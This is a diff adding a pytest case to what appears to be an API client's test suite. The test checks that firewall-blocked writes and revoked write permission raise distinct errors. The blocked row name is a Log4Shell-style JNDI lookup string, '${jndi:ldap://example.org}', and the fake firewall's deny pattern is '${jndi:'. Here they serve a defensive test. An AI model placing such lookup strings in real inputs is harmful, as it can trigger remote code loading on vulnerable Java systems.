@@ -405,3 +405,16 @@ async def test_a_long_list_of_what_changed(monkeypatch: pytest.MonkeyPatch) -> N
     world = new_world()
     made = [world.project.add_case("student", name).case_id for name in ("Ama", "Kofi", "Efua")]
     assert made == [case.case_id async for case in world.client.list_cases("student", since=0.0)]
+
+
+async def test_a_firewall_that_stops_a_write() -> None:
+    """What a firewall stops for its text is refused, not the account; without the right to write it is that."""
+    world = new_world()
+    world.fake.forbid("${jndi:")
+    with pytest.raises(RowsRefused) as refused:
+        await world.client.write_cases([row(name="${jndi:ldap://example.org}")], batch="1")
+    assert ("blocked", {}, 403) == (refused.value.code, refused.value.rows, refused.value.status)
+    world.fake.revoke("edit_data")
+    with pytest.raises(AccessDenied):
+        await world.client.write_cases([row(name="Ama")], batch="2")
+    assert {"write": 2, "probe": 2} == dict(world.fake.requests)
